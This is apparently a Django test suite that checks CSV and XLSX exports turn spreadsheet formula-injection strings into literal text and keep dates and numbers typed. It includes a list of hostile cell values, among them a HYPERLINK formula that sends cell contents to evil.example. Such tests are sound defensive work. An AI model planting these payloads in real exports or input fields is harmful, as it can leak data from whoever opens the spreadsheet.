"""Exports hold data, never formulas; dates and numbers stay dates and numbers; the XLSX
is streamed."""

import csv
import io
import zipfile
from datetime import datetime

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl.utils.escape import unescape

from accounts.models import Person, User
from reports import xlsx
from reports.exports import inert
from tests.helpers import PASSWORD, first_sheet, link

HOSTILE = [
    '=1+2&"',
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTab",
    "\rCR",
    "＝1+2",  # full-width forms: NFKC folds them to = + - @
    "＋31 6 1234",
    "－2+3",
    "＠SUM(A1:A2)",
    "﹦1+2",  # small form
    "\u200b=1+2",  # zero-width space
    "\u200d+1",  # zero-width joiner
    "\ufeff-2",  # byte order mark
    "\u202e@SUM(A1)",  # right-to-left override
    "\u2066\u200e=1",  # bidi isolate and mark
]
CSV_URL = reverse("reports:export", args=["personen-met-mfa", "csv"])
XLSX_URL = reverse("reports:export", args=["personen-met-mfa", "xlsx"])


@pytest.fixture
def hostile_names(db):
    users = []
    for number, name in enumerate(HOSTILE):
        person = Person.objects.create(first_name="", last_name=name)
        users.append(User.objects.create_user(f"hostile{number}", PASSWORD, person=person))
    link(users[0], timezone.now())
    User.objects.filter(pk=users[0].pk).update(login_count=7)
    return users


def body(response):
    return b"".join(response.streaming_content)


def test_csv_cells_that_would_be_formulas_read_back_as_literal_text(admin_client, hostile_names):
    text = body(admin_client.get(CSV_URL)).decode()
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert {"'" + name for name in HOSTILE} <= {row[0] for row in rows[1:]}
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_inert_guards_only_formula_starts():
    assert [inert(name) for name in HOSTILE] == ["'" + name for name in HOSTILE]
    assert inert("Rob de Wit") == "Rob de Wit" and inert("") == ""
    for harmless in ("Ｒob", "\u200bRob", "\ufeff", "de Wit-Jansen", "Ａ=1", " =1"):
        assert inert(harmless) == harmless, harmless


def test_no_xlsx_cell_is_a_formula_and_dates_and_numbers_stay_typed(admin_client, hostile_names):
    content = body(admin_client.get(XLSX_URL))
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    rows = list(first_sheet(content).iter_rows())
    assert all(cell.data_type != "f" for row in rows for cell in row)
    # the literal names, as string cells (Excel decodes _xHHHH_ itself; openpyxl does not)
    values = {unescape(str(row[0].value)): row for row in rows[1:]}
    assert set(HOSTILE) <= set(values)
    linked = values['=1+2&"']
    assert isinstance(linked[2].value, datetime)  # MFA_aangemaakt: a real date
    assert linked[4].value == 1  # Aantal_apparaten: a real number


def test_xlsx_text_with_control_characters_stays_a_valid_file():
    chunks = xlsx.stream(
        [["a\x01b", "_x0041_", "<&>\r\n"], [1, 2.5, datetime(2026, 11, 26, 9, 30)]],
        sheet_name="Test",
        date_format="d-m-yyyy hh:mm",
    )
    sheet = first_sheet(b"".join(chunks))
    assert [unescape(str(cell.value)) for cell in sheet[1]] == ["a\x01b", "_x0041_", "<&>\r\n"]
    assert [cell.value for cell in sheet[2]] == [1, 2.5, datetime(2026, 11, 26, 9, 30)]


def test_the_xlsx_leaves_in_pieces_before_the_last_row_is_read():
    produced = []

    def rows():
        for number in range(3000):
            produced.append(number)
            yield [f"naam {number}" * 5, number]

    chunks = xlsx.stream(rows(), sheet_name="Test", date_format="d-m-yyyy", flush_every=500)
    first = next(chunk for chunk in chunks if chunk)
    assert first.startswith(b"PK") and len(produced) < 3000
    rest = b"".join(chunks)
    assert first_sheet(first + rest).max_row == 3000


def test_csv_usernames_that_would_be_formulas_read_back_as_literal_text(admin_client):
    for number, username in enumerate(["@evil", "+31", "-min"]):
        person = Person.objects.create(first_name="Naam", last_name=f"Gebruiker{number}")
        User.objects.create_user(username, PASSWORD, person=person)
    url = reverse("reports:export", args=["systeemgebruikers-en-inlog-stats", "csv"])
    rows = list(csv.reader(io.StringIO(body(admin_client.get(url)).decode()[1:]), delimiter=";"))
    column = rows[0].index("Gebruikersnaam")
    assert {"'@evil", "'+31", "'-min"} <= {row[column] for row in rows[1:]}
